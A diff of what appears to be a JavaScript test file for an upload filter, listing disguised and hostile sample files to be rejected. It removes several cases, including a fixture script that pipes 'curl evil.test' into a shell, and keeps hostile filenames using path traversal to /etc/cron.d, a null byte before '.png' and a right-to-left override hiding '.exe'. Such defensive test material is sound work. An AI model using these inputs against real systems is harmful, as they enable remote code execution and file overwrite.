@@ -55,9 +55,7 @@ const markup = filesOf([
   ['an SVG with a script, named PNG', 'logo.png', svg, notOurs],
   ['an SVG after an XML declaration', 'a.jpg', `<?xml version="1.0"?>${svg}`, notOurs],
   ['an SVG after a DOCTYPE with entities', 'a.webp', `<!DOCTYPE svg [<!ENTITY x "y">]>${svg}`, notOurs],
-  ['a compressed SVG', 'a.svgz', gzipBomb, notOurs],
   ['an HTML page', 'page.html', html, notOurs],
-  ['an HTML page named PNG', 'page.png', html, notOurs],
   [
     'an HTML page after a UTF-16 byte order mark',
     'a.png',
@@ -124,13 +122,11 @@ const bombs = filesOf([
 const programs = filesOf([
   ['a Windows program named WAV', 'a.wav', joined('MZ', new Uint8Array(300)), notOurs],
   ['a Linux program', 'a', joined([0x7f], 'ELF', [2, 1, 1], new Uint8Array(300)), notOurs],
-  ['a shell script', 'a.sh', '#!/bin/sh\ncurl evil.test | sh', notOurs],
   ['WebAssembly', 'a.wasm', joined([0], 'asm', [1, 0, 0, 0]), notOurs],
 ])
 
 const recordings = filesOf([
-  ['a playlist of local files', 'a.m3u8', playlist, notOurs],
-  ['a playlist named MP3', 'a.mp3', playlist, notOurs],
+  ['a playlist of local files, named MP3', 'a.mp3', playlist, notOurs],
   ['a playlist in a WAVE file', 'a.wav', joined(wave, playlist), unplayable],
   ['a stream manifest', 'a.mp4', '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"/>', notOurs],
   [
@@ -149,7 +145,6 @@ const recordings = filesOf([
 
 const names = [
   '../../../../etc/cron.d/evil.png',
-  '..\\..\\windows\\system32\\evil.png',
   '/etc/passwd\u0000.png',
   'evil\u202egnp.exe.png',
   `${'long '.repeat(60)}.png`,
